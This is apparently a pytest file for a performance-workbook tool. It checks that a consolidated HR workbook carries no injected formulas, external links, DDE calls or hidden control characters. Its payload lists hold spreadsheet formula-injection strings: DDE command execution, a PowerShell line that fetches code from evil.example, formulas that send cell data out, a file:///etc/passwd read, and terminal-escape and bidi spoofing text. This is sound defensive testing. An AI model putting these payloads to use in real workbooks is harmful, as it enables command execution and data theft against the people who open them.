"""Text from a team's workbook stays text in HR's: no formula, no link, no call, nothing that cannot be seen."""

from __future__ import annotations

import itertools
import json
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from click.testing import CliRunner

import perfsheet
from perfsheet.cli import cli
from perfsheet.errors import made_visible
from perfsheet.filling import fill
from perfsheet.forms import CHECKINS, GOALS, PEOPLE
from perfsheet.templates import template_bytes
from perfsheet.workbooks.reading import read

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\n=",
    "\r=",
    " =",
    "'=",
    '"=',
    "=-",
    "=+",
    "@=",
    "%0A=",
    "＝",
    "＋",
    "－",
    "＠",
    "{=",
    "=@",
    ";=",
    ",=",
    "|=",
)
CALLS = (
    "1+1",
    "cmd|' /C calc'!A0",
    "cmd|'/C powershell IEX(wget evil.example/x)'!A0",
    'DDE("cmd";"/C calc";"x")',
    "MSEXCEL|'\\..\\..\\cmd'!''",
    'HYPERLINK("http://evil.example?x="&A1,"Click")',
    'IMPORTXML("http://evil.example","//a")',
    'WEBSERVICE("http://evil.example")',
    'IMPORTDATA("http://evil.example")',
    'IMAGE("http://evil.example/x.png")',
    "'file:///etc/passwd'#$passwd.A1",
    "[evil.xlsx]Sheet1!A1",
    "'\\\\evil.example\\share\\[x.xlsx]S'!A1",
    'EXEC("calc")',
    'CALL("kernel32","WinExec","JCJ","calc",0)',
    'REGISTER("urlmon","x")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    'INDIRECT("A1")',
    "_xlfn.WEBSERVICE(A1)",
    "LAMBDA(x,x)(1)",
    "A1:A9}",
)
LINKS = (
    "http://evil.example", "https://evil.example", "ftp://evil.example", "mailto:x@evil.example", "internal:Sheet1!A1", "external:c:\\evil.xlsx",
    "file:///etc/passwd", "javascript:alert(1)", "data:text/html,x", "\\\\evil.example\\share", "www.evil.example", "#REF!", "#N/A", "TRUE", "1e999",
    "<script>alert(1)</script>", "]]><f>1</f>", "_x003D_1+1", "_x0000_", "&#61;1+1", "x\x1b]52;c;ZXZpbA==\x07", "abc\u202egpj.exe", "\u2066=1\u2069", "a\u200bb",
)  # fmt: skip
PAYLOADS = tuple(dict.fromkeys([*(f"{start}{call}" for start, call in itertools.product(STARTS, CALLS)), *LINKS]))
"""More than 500 texts: published ways to make a spreadsheet do something, and their spellings."""


def cleaned(text: str) -> str:
    """What reading makes of a text in a cell: trimmed, line ends alike."""
    return text.replace("\r\n", "\n").replace("\r", "\n").strip()


@pytest.fixture(scope="module")
def org(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workbook with a payload in every title, note, name and setting that takes text, consolidated."""
    folder = tmp_path_factory.mktemp("evil")
    goals = [
        {
            "goal_id": f"G{n}",
            "goal": text,
            "owners": ("Ada Bell",),
            "kind": "Increase",
            "measure": text,
            "baseline": 0,
            "target": 9,
        }
        for n, text in enumerate(PAYLOADS)
    ]
    people = [
        {"person": "Ada Bell"},
        *({"person": f"P{n} {text}", "email": text, "group": text} for n, text in enumerate(PAYLOADS[::5])),
    ]
    log = [
        {"day": date(2026, 1, 9), "goal_id": f"G{n}", "value": 3, "note": text, "blocker": text}
        for n, text in enumerate(PAYLOADS)
    ]
    settings = {
        "organisation": "=1+1", "team": "@SUM(1)", "manager": "=cmd|' /C calc'!A0", "period": "-2026 Q1", "period_start": date(2026, 1, 1),
        "period_end": date(2026, 3, 31),
    }  # fmt: skip
    (folder / "team.xlsx").write_bytes(
        fill(template_bytes("team"), {PEOPLE: people, GOALS: goals, CHECKINS: log}, settings)
    )
    perfsheet.consolidate([folder / "team.xlsx"], output=folder / "org.xlsx", as_of=date(2026, 2, 14), fairness=True)
    return folder / "org.xlsx"


def test_there_are_enough_of_them() -> None:
    assert len(PAYLOADS) > 500


def test_every_text_is_there_as_it_was_written(org: Path) -> None:
    goals = read(org).sheet("Goals")
    assert goals is not None
    shown = {cell.value: cell for cell in goals.cells.values() if cell.type == "text"}
    wanted = {made_visible(cleaned(text)) for text in PAYLOADS if cleaned(text)}
    assert wanted - shown.keys() == set()


OURS = re.compile(
    r"<f>(?:SUM|SUMPRODUCT|COUNTA|COUNTIF|COUNTIFS|ROWS|IF|AVERAGE|AVERAGEIFS|SUMXMY2|1-|B\d+-C\d+|C\d+/B\d+|Control!B3)[^<]*</f>"
)


def test_no_formula_but_our_own_and_no_link_leads_out(org: Path) -> None:
    with zipfile.ZipFile(org) as package:
        parts = {name: package.read(name).decode("utf-8", "replace") for name in package.namelist()}
    sheets = "".join(text for name, text in parts.items() if name.startswith("xl/worksheets/sheet"))
    formulas = re.findall(r"<f[ >].*?</f>", sheets, re.S)
    assert formulas
    assert [f for f in formulas if not OURS.fullmatch(f)] == []
    assert "evil" not in "".join(text for name, text in parts.items() if name.endswith(".rels"))
    assert 'TargetMode="External"' not in "".join(parts.values())
    assert not any(name.startswith(("xl/externalLinks", "xl/connections", "xl/queryTables")) for name in parts)
    assert "ddeLink" not in "".join(parts.values())


def test_what_cannot_be_seen_is_written_out(org: Path) -> None:
    text = "".join(str(cell.value) for sheet in read(org).sheets for cell in sheet.cells.values())
    assert "abc[U+202E]gpj.exe" in text
    assert not set(text) & {"\u202e", "\u2066", "\u200b", "\x1b", "\x07"}


@pytest.mark.parametrize("text", ["naïve", "日本語", "عربي", "👩‍👩‍👧", "a\u00adb", "line\nline", "می‌خواهم", "Ł\tx"])
def test_honest_text_is_left_alone(text: str) -> None:
    assert made_visible(text) == text


def test_the_terminal_gets_no_escapes(org: Path, capfd: pytest.CaptureFixture[str]) -> None:
    from perfsheet.runs import validate_files

    validate_files([str(org.with_name("team.xlsx"))], as_of=date(2026, 2, 14), as_json=False, policy=None, quiet=False)
    printed = capfd.readouterr().out.replace("\x1b[0m", "")
    assert not re.search(r"[\x00-\x08\x0b-\x1a\x1c-\x1f\x7f-\x9f\u202a-\u202e]", re.sub(r"\x1b\[[0-9;]*m", "", printed))


CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2066-\u2069\ufeff\U000e0000-\U000e007f]")
DIRTY = "C1\x9b31m DEL\x7f tag\U000e0041 bidi\u202e"


def test_json_on_a_terminal_is_data_alone(tmp_path: Path) -> None:
    """C1 controls are obeyed as escapes by some terminals, and JSON itself does not ask for them to be escaped."""
    people = [{"person": DIRTY, "email": "x\x1b]0;y\x07"}]
    goals = [{"goal_id": "G1", "goal": DIRTY, "owners": (DIRTY,), "kind": "Increase", "baseline": 0, "target": 9}]
    path = tmp_path / "team.xlsx"
    path.write_bytes(
        fill(template_bytes("team"), {PEOPLE: people, GOALS: goals}, {"team": "T", "manager": "M", "period": "P"})
    )
    for command in (["score", "--dry-run"], ["validate"]):
        done = CliRunner().invoke(cli, [*command, str(path), "--format", "json"])
        assert not CONTROL.search(done.stdout)
        assert DIRTY in json.dumps(json.loads(done.stdout), ensure_ascii=False) or command == ["validate"]


def test_an_error_on_a_terminal_is_one_harmless_line(tmp_path: Path, org: Path) -> None:
    done = CliRunner().invoke(cli, ["score", str(org.with_name("team.xlsx")), "--person", "Nobody"])
    assert done.exit_code == 2
    assert done.output.count("\n") == 1
    assert not CONTROL.search(done.output.rstrip("\n"))
